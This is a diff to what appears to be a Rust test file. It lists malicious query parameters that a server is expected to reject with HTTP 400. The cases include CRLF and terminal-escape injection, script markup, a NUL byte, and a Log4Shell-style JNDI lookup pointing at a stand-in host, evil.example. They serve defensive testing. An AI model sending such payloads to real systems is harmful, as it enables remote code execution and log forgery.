@@ -172,7 +172,7 @@ fn in_headers() -> Vec<Case> {
     }
     for (name, query, status) in [
         ("line breaks in a parameter", "dry_run=1%0d%0aFORGED%1b%5b31m", 400),
-        ("markup in a parameter", "dry_run=<script>", 400),
+        ("markup in a parameter", "dry_run=%3Cscript%3E", 400),
         ("NUL in a parameter", "dry_run=%00FORGED", 400),
         ("a look-up in a parameter", "dry_run=${jndi:ldap://evil.example/FORGED}", 400),
     ] {
